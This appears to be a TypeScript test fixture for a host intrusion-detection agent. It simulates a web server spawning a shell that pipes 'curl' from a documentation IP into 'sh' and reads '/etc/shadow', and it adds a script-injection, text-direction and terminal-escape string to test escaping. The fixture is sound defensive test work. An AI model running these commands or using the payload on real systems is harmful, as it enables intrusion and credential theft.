/** What an agent tells its server of an attack: a web server starts a shell, which fetches a program, reads passwords and talks to the outside. */
import type { Finding, FindingReason, LineageEntry, Priority } from '../../src/findings/finding.ts'
import type { HistoryEvent } from '../../src/findings/history-event.ts'
import type { ProcessRecord } from '../../src/findings/process-record.ts'
import type { SensorReport } from '../../src/findings/sensor-record.ts'

export const HOST = 'web-1'

/** A name that would take over a page, a terminal and the direction of the text, if it could. */
const HOSTILE = `<img src=x onerror="alert(1)"><script>alert(2)</script>\u202egnp.\x1b[31mexe`

interface Person {
  readonly pid: number
  readonly parent: number | undefined
  readonly name: string
  readonly cmdline: string
}

const PEOPLE: readonly Person[] = [
  { pid: 1, parent: undefined, name: 'systemd', cmdline: '/sbin/init' },
  { pid: 500, parent: 1, name: 'nginx', cmdline: 'nginx: worker process' },
  { pid: 900, parent: 500, name: 'sh', cmdline: 'sh -c "curl -s http://203.0.113.7/x | sh"' },
  { pid: 901, parent: 900, name: 'curl', cmdline: 'curl -s http://203.0.113.7/x' },
  { pid: 902, parent: 900, name: 'sh', cmdline: 'sh' },
  { pid: 903, parent: 902, name: 'cat', cmdline: `cat /etc/shadow ${HOSTILE}` },
]

const startNs = (pid: number): number => 80_000_000_000 + pid
const keyOf = (pid: number): string => `${pid}@${startNs(pid)}`

export function processes(nowNs: number, further = 0): readonly ProcessRecord[] {
  const crowd = Array.from(
    { length: further },
    (_, index): Person => ({ pid: 10_000 + index, parent: 902, name: 'date', cmdline: `date +${index}` }),
  )
  return [...PEOPLE, ...crowd].map(({ pid, parent, name, cmdline }) => ({
    id: `${keyOf(pid)}#0`,
    processKey: keyOf(pid),
    parentKey: parent === undefined ? undefined : keyOf(parent),
    hostname: HOST,
    timeNs: nowNs - 60e9 + pid * 1e6,
    pid,
    ppid: parent ?? 0,
    name,
    exePath: `/usr/bin/${name}`,
    cmdline,
    user: 'www-data',
    uid: 33,
    containerId: undefined,
    containerName: undefined,
    image: undefined,
    startedNs: nowNs - 60e9 + pid * 1e6,
    fields: {
      'proc.name': name,
      'proc.cmdline': cmdline,
      'proc.pid': pid,
      'proc.exepath': `/usr/bin/${name}`,
      'user.name': 'www-data',
      'user.uid': 33,
    },
  }))
}

export const readOfShadow = (nowNs: number): HistoryEvent => ({
  id: `e${nowNs}`,
  hostname: HOST,
  timeNs: nowNs,
  kind: 'file.open',
  type: 'openat',
  processId: `${keyOf(903)}#0`,
  processKey: keyOf(903),
  fields: { 'evt.type': 'openat', 'fd.name': '/etc/shadow', 'fd.typechar': 'f' },
})

export interface Found {
  readonly id: string
  readonly rule: string
  readonly priority: Priority
  readonly pid: number
  readonly timeNs: number
  readonly technique: string
  readonly output: string
  readonly why: readonly FindingReason[]
}

export function finding({ id, rule, priority, pid, timeNs, technique, output, why }: Found): Finding {
  return {
    id,
    rule,
    priority,
    source: 'syscall',
    tags: ['host'],
    attack: [{ id: technique }],
    output,
    outputFields: { 'proc.name': PEOPLE.find((one) => one.pid === pid)?.name ?? null, 'fd.name': '/etc/shadow' },
    timeNs,
    hostname: HOST,
    eventIds: [],
    lineage: lineageOf(pid),
    containerId: undefined,
    processKey: keyOf(pid),
    why,
    foldKey: id,
    confidence: 'high',
    workload: undefined,
    object: undefined,
    count: 1,
  }
}

function lineageOf(pid: number): readonly LineageEntry[] {
  const person = PEOPLE.find((one) => one.pid === pid)
  if (person === undefined) return []
  const entry = {
    pid,
    startNs: startNs(pid),
    name: person.name,
    exePath: `/usr/bin/${person.name}`,
    cmdline: person.cmdline,
    user: 'www-data',
  }
  return [entry, ...(person.parent === undefined ? [] : lineageOf(person.parent))]
}

/** The shell, and then the password file: one incident. */
export const attack = (nowNs: number): readonly Finding[] => [
  finding({
    id: `a${nowNs}-1`,
    rule: 'Shell started by a web server',
    priority: 'critical',
    pid: 900,
    timeNs: nowNs - 20e9,
    technique: 'T1059.004',
    output: 'A web server started a shell (process=sh parent=nginx)',
    why: [{ check: 'proc.pname in (nginx, apache2)', value: 'nginx', held: true, macros: ['started_by_web_server'] }],
  }),
  finding({
    id: `a${nowNs}-2`,
    rule: 'Read of a password file',
    priority: 'warning',
    pid: 903,
    timeNs: nowNs - 10e9,
    technique: 'T1003.008',
    output: `Password file read (file=/etc/shadow process=cat command=cat /etc/shadow ${HOSTILE})`,
    why: [
      { check: 'fd.name = /etc/shadow', value: '/etc/shadow', held: true, macros: [] },
      { check: 'proc.name in (login, sshd)', value: 'cat', held: false, macros: ['reads_passwords_by_profession'] },
    ],
  }),
]

export const sensor = (nowNs: number, given: Partial<SensorReport> = {}): SensorReport => ({
  hostname: HOST,
  version: '0.1.0',
  kernel: '6.12.48',
  bootId: 'boot',
  pid: 812,
  timeNs: nowNs,
  startedNs: nowNs - 3600e9,
  rules: 241,
  hooks: 64,
  calls: 'functions',
  processes: 400,
  totals: { seen: 1_000_000, kept: 12_000, filtered: 988_000, folded: 0, sampled: 0, lost: 7, findings: 2 },
  losses: [{ cause: 'ring', count: 7 }],
  degraded: [{ name: 'io_uring requests', detail: 'File opens by io_uring are not seen.', fix: 'Boot a kernel of 5.15 or later.' }],
  spool: { findings: 0, bytes: 0, dropped: 0 },
  cost: {
    pid: 812,
    time: nowNs / 1e9,
    cpuSeconds: 10,
    residentBytes: 130e6,
    kinds: [],
    rules: [],
    programs: [],
    ring: { bytes: 8 << 20, used: 0, peak: 0 },
    findings: 2,
    budget: { maxShare: null, step: 0, foldWindowMs: 0, sampled: [] },
  },
  ...given,
})
